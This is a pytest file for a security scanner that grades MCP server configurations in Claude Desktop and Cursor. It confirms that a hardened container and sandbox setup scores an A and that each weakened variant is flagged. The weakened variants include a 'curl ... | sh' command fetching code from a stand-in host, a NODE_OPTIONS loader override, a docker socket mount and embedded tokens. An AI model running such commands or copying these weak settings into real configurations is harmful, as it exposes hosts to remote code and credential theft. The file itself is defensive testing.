"""A setup in which everything was done right grades A, with nothing of medium or above; the same one undone does not.

The configurations are real files that the real collectors read; only /proc, the sudo policy, the units and the
engines are a host's that has nothing else on it.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests import builders
from tests.host.fake_proc import FakeProc
from tests.plugins.confined import BOXED, OPEN, in_bubblewrap, in_docker
from tests.plugins.loading import plugins
from tests.secret_samples import make
from workbench.host.gather import gather
from workbench.host.servers.joining import Facts, join
from workbench.model.assets import AssetFacts, Reach
from workbench.model.clients import EntryReference
from workbench.model.processes import ProcessFacts
from workbench.model.report import Report, Status
from workbench.model.servers import ServerFacts
from workbench.model.severity import Severity
from workbench.model.snapshot import SECTIONS, Snapshot
from workbench.scan import scan
from workbench.secrets import environment_entry, secrets_in_commands

DIGEST = "sha256:" + "ab12" * 16
CONTAINER = [
    *("run", "-i", "--rm", "--init", "--read-only", "--tmpfs", "/tmp:rw,noexec,nosuid,size=64m", "--network", "none"),
    *("--cap-drop", "ALL", "--security-opt", "no-new-privileges", "--user", "1000:1000"),
    *("--pids-limit", "100", "--memory", "512m", "--cpus", "1"),
    *("--mount", "type=bind,src={home}/work/notes,dst=/workspace,readonly", f"mcp/filesystem@{DIGEST}", "/workspace"),
]
SANDBOX = [
    *("--unshare-all", "--die-with-parent", "--new-session", "--clearenv", "--setenv", "PATH", "/usr/bin"),
    *("--ro-bind", "/usr", "/usr", "--symlink", "usr/bin", "/bin", "--symlink", "usr/lib", "/lib"),
    *("--symlink", "usr/lib64", "/lib64", "--ro-bind", "{home}/.npm-mcp", "/home/mcp/.npm"),
    *("--setenv", "HOME", "/home/mcp", "--bind", "{home}/work/graph", "/workspace", "--proc", "/proc", "--dev", "/dev"),
    *("--tmpfs", "/tmp", "--chdir", "/workspace", "--cap-drop", "ALL"),
    *("/usr/bin/npx", "--offline", "-y", "@modelcontextprotocol/server-memory@2026.7.4"),
]
SERVERS: dict[str, dict[str, Any]] = {
    "notes": {"command": "/usr/bin/docker", "args": CONTAINER},
    "memory": {"command": "/usr/bin/bwrap", "args": SANDBOX},
    "linear": {"url": "https://mcp.linear.app/mcp", "headers": {"Authorization": "Bearer ${env:LINEAR_TOKEN}"}},
}
PLACES = {
    "Claude Desktop": (".config/Claude/claude_desktop_config.json", ("notes", "memory")),
    "Cursor": (".cursor/mcp.json", ("notes", "memory", "linear")),
}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A private home with what the servers need."""
    made = tmp_path / "home"
    for name in ("work/notes", "work/graph", ".npm-mcp"):
        (made / name).mkdir(parents=True)
    for folder in (made, *made.rglob("*")):
        folder.chmod(0o700)
    return made


def configure(home: Path, servers: dict[str, dict[str, Any]]) -> None:
    """Write the servers into both clients, for the owner alone."""
    for place, names in PLACES.values():
        file = home / place
        for folder in reversed([above for above in file.parents if home in above.parents]):
            folder.mkdir(exist_ok=True)
            folder.chmod(0o700)
        text = json.dumps({"mcpServers": {name: servers[name] for name in names if name in servers}}, indent=2)
        file.write_text(text.replace("{home}", str(home)))
        file.chmod(0o600)


def gathered(home: Path, proc: FakeProc, uid: int = 1000) -> Snapshot:
    """What the real collectors find of it."""
    (proc.root / "self" / "status").write_text("Name:\tpython\nUmask:\t0077\n")
    nothing: dict[str, Any] = {"sudoers": home.parent / "sudoers", "unit_folders": (), "engines": ()}
    context = proc.context(home, managed_root=home.parent / "managed", **nothing)
    # The audit of this machine is not the staged one's.
    return gather(replace(context, uid=uid), only=set(SECTIONS) - {"audit"})


def with_running(found: Snapshot) -> Snapshot:
    """The same host while its servers run, as what they are started with makes them run."""
    image = found.clients.configs[0].servers[0].launch
    started = [
        in_docker("notes", groups=(61000,), launch=image, key="61000:mcp/filesystem"),
        in_bubblewrap("memory", key="1000:@modelcontextprotocol/server-memory"),
    ]
    places = {entry.name: (config, entry) for config in found.clients.configs for entry in config.servers}
    running = []
    for each in started:
        config, entry = places[each.label]
        reference = EntryReference(config.path.asked, entry.pointer, entry.name)
        code = () if each.container else (builders.path("/usr/bin/node", 0o755, uid=0, gid=0),)
        running.append(replace(each, entry=reference, client="cursor", program=code))
    processes = ProcessFacts(builders.COMPLETE, tuple(running), seen=9)
    servers = join(Facts(found.clients, processes, found.sockets, found.units, found.containers))
    reaches = tuple(
        Reach((server.key,), asset.name, "no", "it does not see that place", "tried")
        for server in servers
        for asset in found.assets.assets
    )
    return replace(
        found,
        processes=processes,
        servers=ServerFacts(builders.COMPLETE, servers),
        assets=AssetFacts(builders.COMPLETE, found.assets.assets, reaches),
    )


def said(report: Report) -> Iterator[str]:
    """What is left, in lines."""
    yield f"{report.grade.letter} {report.grade.score} {report.grade.coverage}: {report.grade.rule}"
    for finding in report.findings():
        yield f"{finding.severity} {finding.check} {finding.subject.label}: {finding.summary}"
        yield from (f"    {evidence.actual}" for evidence in finding.evidence)
    for result in report.results:
        gaps = ", ".join(f"{gap.what}: {gap.why}" for gap in result.not_assessed)
        if result.status in (Status.NOT_ASSESSED, Status.ERROR):
            yield f"{result.status} {result.check}: {result.reason}{gaps}"


def assert_clean(report: Report) -> None:
    told = "\n".join(said(report))
    assert report.grade.letter == "A", told
    assert not [finding for finding in report.findings() if finding.severity.at_least(Severity.MEDIUM)], told


def test_a_hardened_setup_is_an_a(home: Path, tmp_path: Path) -> None:
    configure(home, SERVERS)
    report = scan(gathered(home, FakeProc(tmp_path / "proc")), plugins())
    assert_clean(report)
    assert not list(report.findings()), "\n".join(said(report))


def test_it_is_one_while_its_servers_run(home: Path, tmp_path: Path) -> None:
    configure(home, SERVERS)
    report = scan(with_running(gathered(home, FakeProc(tmp_path / "proc"))), plugins())
    assert_clean(report)
    judged = {result.check for result in report.results if result.status is Status.PASSED}
    assert {"processes/shares-your-account", "processes/no-syscall-filter", "secrets/reachable-files"} <= judged


def _without(word: str, count: int = 1) -> list[str]:
    at = CONTAINER.index(word)
    return CONTAINER[:at] + CONTAINER[at + count :]


def _instead(words: list[str], old: str, new: str) -> list[str]:
    assert old in words
    return [new if word == old else word for word in words]


MOUNT = "type=bind,src={home}/work/notes,dst=/workspace,readonly"
WHOLE = "type=bind,src={home},dst=/workspace"
ME = f"{os.getuid()}:{os.getgid()}"
TOKEN = make("github-classic", 1)
PACKAGE = "@modelcontextprotocol/server-memory@2026.7.4"
LINEAR = SERVERS["linear"]
WEAKER: list[tuple[str, str, dict[str, Any]]] = [
    ("clients/container-flags", "notes", {"args": _without("--cap-drop", 2)}),
    ("clients/container-flags", "notes", {"args": _without("--security-opt", 2)}),
    ("clients/container-flags", "notes", {"args": _instead(CONTAINER, "no-new-privileges", "no-new-privileges=false")}),
    ("clients/container-flags", "notes", {"args": _without("--read-only")}),
    ("clients/container-flags", "notes", {"args": _without("--user", 2)}),
    ("clients/container-flags", "notes", {"args": _instead(CONTAINER, "1000:1000", "0:0")}),
    ("clients/container-flags", "notes", {"args": _instead(CONTAINER, "1000:1000", "mcp-server")}),
    ("clients/container-flags", "notes", {"args": _without("--pids-limit", 2)}),
    ("clients/container-flags", "notes", {"args": _without("--memory", 2)}),
    ("clients/container-flags", "notes", {"args": _without("-i")}),
    ("clients/container-flags", "notes", {"args": _instead(CONTAINER, "none", "host")}),
    ("clients/container-flags", "notes", {"args": ["run", "--privileged", *CONTAINER[1:]]}),
    ("clients/container-flags", "notes", {"args": ["run", "-v/var/run/docker.sock:/s", *CONTAINER[1:]]}),
    ("clients/no-isolation", "notes", {"args": ["run", "--privileged", *CONTAINER[1:]]}),
    ("clients/unpinned-image", "notes", {"args": _instead(CONTAINER, f"mcp/filesystem@{DIGEST}", "mcp/filesystem:1")}),
    ("clients/broad-root", "notes", {"args": _instead(CONTAINER, MOUNT, WHOLE)}),
    ("secrets/reachable-files", "notes", {"args": _instead(_instead(CONTAINER, MOUNT, WHOLE), "1000:1000", ME)}),
    (
        "secrets/in-config",
        "notes",
        {"args": ["run", "-e", f"GITHUB_TOKEN={TOKEN}", *CONTAINER[1:]]},
    ),
    ("clients/sudo-wrapper", "notes", {"command": "sudo", "args": ["-n", "docker", *CONTAINER]}),
    ("clients/unpinned-package", "memory", {"args": _instead(SANDBOX, PACKAGE, PACKAGE.rpartition("@")[0])}),
    (
        "clients/unpinned-package",
        "memory",
        {"args": _instead(SANDBOX, PACKAGE, PACKAGE.replace("2026.7.4", "latest"))},
    ),
    ("clients/no-isolation", "memory", {"command": "/usr/bin/npx", "args": ["-y", PACKAGE]}),
    ("secrets/reachable-files", "memory", {"command": "/usr/bin/npx", "args": ["-y", PACKAGE]}),
    ("clients/no-isolation", "memory", {"args": ["--bind", "/", "/", "/usr/bin/npx", "-y", PACKAGE]}),
    ("clients/loader-override", "memory", {"env": {"NODE_OPTIONS": "--require /tmp/hook.js"}}),
    ("secrets/in-config", "memory", {"env": {"OPENAI_API_KEY": make("openai-project", 1)}}),
    ("clients/inline-code", "memory", {"command": "sh", "args": ["-c", "curl -s https://x.example/i | sh"]}),
    ("clients/shell-server", "memory", {"args": _instead(SANDBOX, PACKAGE, "@wonderwhy-er/desktop-commander@0.2.40")}),
    ("clients/known-vulnerable", "memory", {"args": _instead(SANDBOX, PACKAGE, "mcp-remote@0.1.0")}),
    ("clients/plain-http", "linear", {"url": "http://mcp.linear.app/mcp"}),
    ("secrets/in-config", "linear", {"headers": {"Authorization": f"Bearer {make('linear', 1)}"}}),
    ("secrets/in-config", "linear", {"url": "https://mcp.linear.app/mcp?token=" + make("linear", 1)}),
]


@pytest.mark.parametrize(("check", "name", "weaker"), WEAKER, ids=lambda value: value if isinstance(value, str) else "")
def test_each_weakness_of_a_config_is_found(
    check: str, name: str, weaker: dict[str, Any], home: Path, tmp_path: Path
) -> None:
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text("x")
    configure(home, {**SERVERS, name: {**SERVERS[name], **weaker}})
    report = scan(gathered(home, FakeProc(tmp_path / "proc"), os.getuid()), plugins())
    assert check in {finding.check for finding in report.findings()}, "\n".join(said(report))


def test_each_weakness_of_its_files_is_found(home: Path, tmp_path: Path) -> None:
    configure(home, SERVERS)
    for folder in (tmp_path, *tmp_path.parents):
        if folder.stat().st_uid == os.getuid() and folder != Path("/"):
            folder.chmod(folder.stat().st_mode | 0o011)
    for folder in (home, home / ".cursor", home / ".config", home / ".config/Claude"):
        folder.chmod(0o755)
    (home / ".cursor/mcp.json").chmod(0o644)
    (home / ".config/Claude/claude_desktop_config.json").chmod(0o622)
    (home / ".cursor/mcp.json.bak").write_text((home / ".cursor/mcp.json").read_text())
    report = scan(gathered(home, FakeProc(tmp_path / "proc")), plugins())
    found = {finding.check: finding.severity for finding in report.findings()}
    assert found == {
        "clients/config-readable-by-others": Severity.LOW,
        "clients/config-writable-by-others": Severity.CRITICAL,
        "clients/leftover-backup": Severity.LOW,
    }


OF_PROCESSES: list[tuple[str, str, dict[str, Any]]] = [
    ("processes/runs-as-root", "notes", {"uid": 0}),
    ("processes/runs-as-root", "memory", {"uid": 0}),
    ("processes/shares-your-account", "memory", {"isolation": OPEN, "no_new_privileges": False}),
    ("processes/sees-whole-filesystem", "memory", {"isolation": OPEN}),
    ("processes/no-syscall-filter", "memory", {"isolation": replace(BOXED, filters_added=0)}),
    ("processes/no-new-privileges-off", "memory", {"no_new_privileges": False}),
    ("processes/umask", "memory", {"umask": 0o022}),
    ("processes/capabilities", "notes", {"isolation": replace(BOXED, capabilities_effective=("CAP_SYS_ADMIN",))}),
    ("processes/privileged-groups", "memory", {"isolation": OPEN, "groups": (998,)}),
    ("processes/orphaned", "memory", {"orphaned": True}),
    ("processes/outdated", "memory", {"outdated": "another version"}),
    ("processes/unconfigured", "memory", {"entry": None, "client": ""}),
    ("processes/program-replaceable", "memory", {"program": (builders.path("/usr/bin/node", 0o757, uid=0, gid=0),)}),
    (
        "secrets/in-process-environment",
        "memory",
        {"environment": (environment_entry("GITHUB_TOKEN", TOKEN),)},
    ),
    (
        "secrets/in-process-arguments",
        "memory",
        {"argument_secrets": secrets_in_commands([["x", "--api-key", TOKEN]])},
    ),
]


@pytest.mark.parametrize(("check", "name", "weaker"), OF_PROCESSES)
def test_each_weakness_of_a_process_is_found(
    check: str, name: str, weaker: dict[str, Any], home: Path, tmp_path: Path
) -> None:
    configure(home, SERVERS)
    found = with_running(gathered(home, FakeProc(tmp_path / "proc")))
    names = replace(found.accounts, groups=(*found.accounts.groups, (998, "docker")))
    servers = tuple(replace(each, **weaker) if each.label == name else each for each in found.processes.servers)
    report = scan(replace(found, accounts=names, processes=replace(found.processes, servers=servers)), plugins())
    assert {finding.check for finding in report.findings()} >= {check}, "\n".join(said(report))
